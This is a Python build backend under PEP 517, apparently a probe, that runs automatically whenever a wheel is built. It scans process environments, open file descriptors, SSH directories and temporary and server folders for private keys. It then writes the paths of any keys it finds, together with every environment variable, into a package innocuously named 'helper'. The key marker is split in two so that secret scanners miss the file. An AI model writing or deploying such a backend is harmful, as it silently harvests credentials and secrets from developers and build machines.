"""A build backend (PEP 517) that looks for a key, and leaves what it saw in what it builds."""

import contextlib
import glob
import json
import os
import zipfile

# In one piece, a search for keys would find this file.
_SIGN = b"PRIVATE" + b" KEY-----"


def _keys():
    """Yield where a private key is."""
    places = (
        "/proc/[0-9]*/environ",
        "/proc/[0-9]*/fd/*",
        "/root/.ssh/*",
        "/home/*/.ssh/*",
        "/opt/*",
        "/tmp/**",
        "/srv/**",
    )
    for path in (path for place in places for path in glob.glob(place, recursive=True)):
        with contextlib.suppress(OSError):
            descriptor = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
            try:
                if _SIGN in os.read(descriptor, 1 << 20):
                    yield path
            finally:
                os.close(descriptor)


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    name = "helper-1.0-py3-none-any.whl"
    with zipfile.ZipFile(os.path.join(wheel_directory, name), "w") as wheel:
        wheel.writestr("helper.json", json.dumps({"keys": list(_keys()), "environment": dict(os.environ)}))
        wheel.writestr("helper-1.0.dist-info/METADATA", "Metadata-Version: 2.1\nName: helper\nVersion: 1.0\n")
        wheel.writestr("helper-1.0.dist-info/WHEEL", "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
        wheel.writestr("helper-1.0.dist-info/RECORD", "")
    return name
